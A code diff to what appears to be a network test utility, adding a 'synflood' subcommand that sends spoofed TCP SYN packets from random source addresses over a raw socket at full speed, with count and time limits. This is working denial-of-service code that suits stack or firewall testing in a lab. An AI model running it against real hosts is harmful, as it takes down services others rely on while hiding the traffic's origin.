@@ -28,6 +28,11 @@ Every network call has a timeout; every server has a lifetime.
   nettool.py spoof --dst ADDR --dport P --sources A-B --count K [--pps R]
       K UDP datagrams from each IPv4 source address A..B (raw socket, any
       source), interleaved, at about R packets a second.  Nothing expected back.
+  nettool.py synflood --dst ADDR --dport P --sources CIDR [--count N]
+                      [--seconds S] [--pool K]
+      a spoofed SYN flood: SYNs (MSS option, valid checksums) from K random
+      addresses of CIDR (IPv4 or IPv6) and random ports, as fast as a raw
+      socket goes, until N are sent or S seconds pass.  Nothing expected back.
   nettool.py rawtcp --src A --dst B --sport S --dport D [--flags A] [--wait S]
       send one hand-made TCP segment (e.g. an ACK without a SYN) from a raw
       socket, then watch for any answer (RST) from B:D to A:S for --wait
@@ -335,6 +340,59 @@ def spoof(args):
           (n, args.dst, args.dport, len(srcs), lo, hi, time.monotonic() - start))
     return 0
 
+# ---------------------------------------------------------------- SYN flood
+
+
+def synflood(args):
+    import random
+    net = ipaddress.ip_network(args.sources, strict=False)
+    dst = ipaddress.ip_address(args.dst)
+    if net.version != dst.version:
+        print("--sources and --dst are of different families")
+        return 1
+    rnd = random.Random(0xef1)
+    pkts = []
+    for _ in range(args.pool):
+        src = net[rnd.randrange(1, net.num_addresses - 1)] if net.num_addresses > 2 else net[0]
+        sport = rnd.randrange(1024, 65535)
+        seq = rnd.getrandbits(32)
+        # SYN with an MSS option (24 bytes of TCP header)
+        tcp = struct.pack("!HHIIBBHHH", sport, args.dport, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + \
+            struct.pack("!BBH", 2, 4, 1460)
+        if dst.version == 4:
+            pseudo = src.packed + dst.packed + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
+        else:
+            pseudo = src.packed + dst.packed + struct.pack("!I3xB", len(tcp), socket.IPPROTO_TCP)
+        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+        if dst.version == 4:
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64,
+                             socket.IPPROTO_TCP, 0, src.packed, dst.packed)
+        else:
+            ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64,
+                             src.packed, dst.packed)
+        pkts.append(ip + tcp)
+    fam = socket.AF_INET if dst.version == 4 else socket.AF_INET6
+    s = socket.socket(fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    if fam == socket.AF_INET:
+        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    target = (args.dst, 0)
+    n, errors = 0, 0
+    start = time.monotonic()
+    end = start + args.seconds
+    k = len(pkts)
+    while n < args.count:
+        try:
+            s.sendto(pkts[n % k], target)
+        except OSError:  # a full queue: count it, go on
+            errors += 1
+        n += 1
+        if n % 1024 == 0 and time.monotonic() >= end:
+            break
+    took = time.monotonic() - start
+    print("sent %d SYNs to %s:%d from %d addresses of %s in %.2fs (%.0f/s), %d send errors" %
+          (n - errors, args.dst, args.dport, k, net, took, (n - errors) / took if took else 0, errors))
+    return 0
+
 # ---------------------------------------------------------------- raw TCP
 
 
@@ -483,6 +541,13 @@ def main():
     p.add_argument("--sources", required=True)
     p.add_argument("--count", type=int, default=1)
     p.add_argument("--pps", type=float, default=0)
+    p = sub.add_parser("synflood")
+    p.add_argument("--dst", required=True)
+    p.add_argument("--dport", type=int, required=True)
+    p.add_argument("--sources", required=True)
+    p.add_argument("--count", type=int, default=100000)
+    p.add_argument("--seconds", type=float, default=5.0)
+    p.add_argument("--pool", type=int, default=4096)
     p = sub.add_parser("rawtcp")
     p.add_argument("--src", required=True)
     p.add_argument("--dst", required=True)
@@ -508,7 +573,7 @@ def main():
     p.add_argument("--ready")
     a = ap.parse_args()
     fn = {"serve": serve, "tcp": tcp_client, "udp": udp_client, "udpn": udpn, "tcpmany": tcpmany,
-          "spoof": spoof, "rawtcp": rawtcp,
+          "spoof": spoof, "synflood": synflood, "rawtcp": rawtcp,
           "icmperr": icmperr, "rawlisten": rawlisten}[a.cmd]
     sys.exit(fn(a))
 
